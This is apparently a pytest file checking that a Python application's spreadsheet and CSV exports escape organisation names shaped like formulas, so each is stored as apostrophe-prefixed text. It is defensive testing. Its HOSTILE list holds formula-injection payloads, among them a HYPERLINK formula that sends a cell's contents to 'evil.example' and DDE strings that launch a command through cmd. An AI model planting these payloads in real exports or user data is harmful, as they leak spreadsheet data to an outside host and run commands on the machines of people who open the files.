"""No export runs a formula: organisations named like formulas stay text in every workbook and CSV written.

The names come in as a user would bring them — an organisations file through the importer (a formula
is valid text for a name) — and go out through the paths a user meets: the bulletin a stage writes into
the archive, the ranking the dashboard downloads, and `bastion results --format csv`.
Each file is read back: every such cell is text beginning with an apostrophe, and no cell of any
workbook is a formula; a CSV cell holding a carriage return stays one cell.
"""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pytest

from bastion.core import dashboard, exports
from bastion.core.access import Principal
from bastion.core.importing import import_file
from bastion.core.models import Organization
from bastion.core.stages import service as stages
from tests import factories
from tests.app.conftest import bastion

HOSTILE = ('=HYPERLINK("http://evil.example/?q="&A1,"点我")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0")


@pytest.fixture
def published(engine, registry, tmp_path):
    """An enterprise whose first five branches were renamed by an organisations import to formula-like names,
    then assessed for 2026-Q1 by the quarterly stage (which writes the bulletin)."""
    tenant, cycle = factories.enterprise(engine, registry, "acme")
    with engine.connect() as conn:
        o = Organization.__table__.c
        codes = [r.code for r in conn.execute(Organization.__table__.select().where(o.level == "branch")
                                              .order_by(o.id).limit(len(HOSTILE)))]
    path = tmp_path / "改名.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as f:
        out = csv.writer(f)
        out.writerow(["code", "name", "level"])
        out.writerows([code, name, "branch"] for code, name in zip(codes, HOSTILE))
    import_file(engine, tenant=tenant, kind="organizations", path=path, registry=registry, actor="组织部")
    ctx = stages.StageContext(engine, registry, tmp_path / "home", "督查组")
    run = stages.run_stage(ctx, cycle, "quarterly", period="2026-Q1", on=date(2026, 4, 8))
    return engine, tenant, cycle, dict(zip(codes, HOSTILE)), run


def cells(book: openpyxl.Workbook) -> list:
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_kept_as_text(book: openpyxl.Workbook, names) -> None:
    everything = cells(book)
    assert not [c.coordinate for c in everything if c.data_type == "f"], "a cell was written as a formula"
    values = {c.value for c in everything}
    for name in names:
        assert "'" + name in values and name not in values


def test_the_bulletin_table_keeps_formula_like_names_as_text(published):
    *_, names, run = published
    book = openpyxl.load_workbook(run.detail["table"])
    assert_kept_as_text(book, names.values())
    sheet = book.active
    by_code = {row[1].value: row[2] for row in sheet.iter_rows(min_row=3)}
    for code, name in names.items():
        assert by_code[code].data_type == "s" and by_code[code].value == "'" + name


def test_the_ranking_download_keeps_formula_like_names_as_text(published):
    engine, tenant, cycle, names, _ = published
    with engine.connect() as conn:
        root = conn.execute(Organization.__table__.select().where(Organization.__table__.c.code == "DW")).one()
        admin = Principal(user_id=1, username="boss", display_name="", tenant_id=tenant.id,
                          grants=(("admin", root.id),))
        data = dashboard.ranking_xlsx(conn, admin, cycle_id=cycle.id, period="2026-Q1")
    assert_kept_as_text(openpyxl.load_workbook(io.BytesIO(data)), names.values())


def test_the_results_csv_keeps_formula_like_names_as_text(published, tmp_path, monkeypatch):
    engine, _, _, names, _ = published
    monkeypatch.setenv("BASTION_DATABASE_URL", engine.url.render_as_string(hide_password=False))
    monkeypatch.setenv("BASTION_HOME", str(tmp_path / "home"))
    output = bastion("results", "--period", "2026-Q1", "--format", "csv").stdout
    rows = list(csv.DictReader(io.StringIO(output.lstrip("\ufeff"))))
    by_code = {row["org_code"]: row for row in rows}
    for code, name in names.items():
        assert by_code[code]["org_name"] == "'" + name
    assert not [v for row in rows for v in row.values() if v and v[0] in "=+@\t\r"]
    assert not [v for row in rows for v in row.values() if v and v[0] == "-" and not _number(v)]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("text", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_text_cell_of_a_csv_is_escaped_and_a_number_stays_a_number(text):
    stream = io.StringIO()
    exports.write_csv(stream, [["名称", "分数"], [text, -3.5]])
    rows = list(csv.reader(io.StringIO(stream.getvalue().lstrip("\ufeff"), newline="")))
    assert rows == [["名称", "分数"], ["'" + text, "-3.5"]]
